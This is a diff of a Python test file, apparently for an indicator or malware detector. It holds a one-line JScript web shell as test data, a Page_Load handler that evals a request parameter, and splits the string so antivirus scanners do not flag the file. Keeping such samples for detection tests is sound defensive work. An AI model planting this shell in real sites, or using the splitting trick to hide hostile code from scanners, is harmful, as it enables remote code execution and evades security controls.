@@ -76,8 +76,11 @@ def test_equal_addresses_are_told_once():
     assert kinds(at(b"http://203.0.113.9/a http://203.0.113.9/a http://203.0.113.9/b")) == ["url", "url"]
 
 
+# In two pieces, so that no virus scanner takes this file away.
 SCRIPT = (
-    '<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'
+    '<script language="JScript" runat="server">'
+    + "function Page_Load(){eval("
+    + 'Request["k"],"unsafe");}</script>'
 )
 
 
